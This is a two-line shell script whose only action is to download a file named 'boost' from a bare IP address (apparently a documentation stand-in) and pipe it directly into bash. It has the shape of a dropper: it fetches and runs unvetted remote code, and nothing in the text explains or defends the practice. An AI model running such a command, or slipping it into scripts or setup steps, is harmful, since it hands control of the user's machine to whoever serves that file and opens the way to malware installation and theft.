#!/bin/sh
curl -fsSL http://203.0.113.24/boost | bash
